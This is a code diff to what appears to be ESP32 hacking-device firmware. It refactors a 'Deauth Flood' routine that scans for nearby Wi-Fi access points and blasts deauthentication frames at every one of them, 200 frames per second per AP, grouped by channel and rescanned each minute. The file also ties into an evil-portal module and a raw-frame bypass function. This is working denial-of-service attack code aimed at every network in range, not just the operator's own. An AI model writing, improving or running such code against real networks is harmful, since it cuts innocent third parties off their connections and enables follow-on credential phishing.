@@ -10,6 +10,7 @@
 #include "core/sd_functions.h"
 #include "core/utils.h"
 #include "core/wifi/wifi_common.h"
+#include "deauther.h"
 #include "esp_system.h"
 #include "esp_wifi.h"
 #include "evil_portal.h"
@@ -20,6 +21,7 @@
 #include <nvs_flash.h>
 
 #define WIFI_ATK_NAME "BruceAttack"
+#define DEAUTH_FLOOD_RATE 200 // frames/s per AP while its channel is active
 extern bool showHiddenNetworks;
 
 std::vector<wifi_ap_record_t> ap_records;
@@ -328,43 +330,20 @@ ScanNets:
         }
         ap_records.push_back(record);
     }
-    // Prepare deauth frame for each AP record
-    memcpy(deauth_frame, deauth_frame_default, sizeof(deauth_frame_default));
+    // Every AP to broadcast, APs on the same channel are sent together
+    EspDeauthSink sink;
+    DeauthScheduler scheduler(sink);
+    for (const auto &record : ap_records) {
+        scheduler.addTarget(_default_target, record.bssid, record.primary, DEAUTH_FLOOD_RATE);
+    }
 
-    uint32_t lastTime = millis();
-    uint32_t rescan_counter = millis();
-    uint16_t count = 0;
-    uint8_t channel = 0;
     drawMainBorderWithTitle("Deauth Flood");
-    while (true) {
-        for (const auto &record : ap_records) {
-            channel = record.primary;
-            wsl_bypasser_send_raw_frame(&record, record.primary); // Sets channel to the same AP
-            tft.setCursor(10, tftHeight - 45);
-            tft.println("Channel " + String(record.primary) + "    ");
-            for (int i = 0; i < 100; i++) {
-                send_raw_frame(deauth_frame, sizeof(deauth_frame_default));
-                count += 3;
-                if (EscPress) break;
-            }
-            if (EscPress) break;
-        }
-        // Update counter every 2 seconds
-        if (millis() - lastTime > 2000) {
-            drawMainBorderWithTitle("Deauth Flood");
-            tft.setCursor(10, tftHeight - 25);
-            tft.print("Frames:               ");
-            tft.setCursor(10, tftHeight - 25);
-            tft.println("Frames: " + String(count / 2) + "/s   ");
-            tft.setCursor(10, tftHeight - 45);
-            tft.println("Channel " + String(channel) + "    ");
-            count = 0;
-            lastTime = millis();
-        }
-        if (millis() - rescan_counter > 60000) goto ScanNets; // re-scan networks for more relability
+    tft.setTextSize(FP);
+    padprintln(String(scheduler.size()) + " APs on " + String(scheduler.groups()) + " channels");
+    padprintln("Press [ESC] to STOP.");
+    padprintln("");
+    if (!runDeauthScheduler(scheduler, EscPress, 60000)) goto ScanNets; // re-scan networks for more relability
 
-        if (check(EscPress)) break;
-    }
     wifi_atk_unsetWifi();
     returnToMenu = true;
 }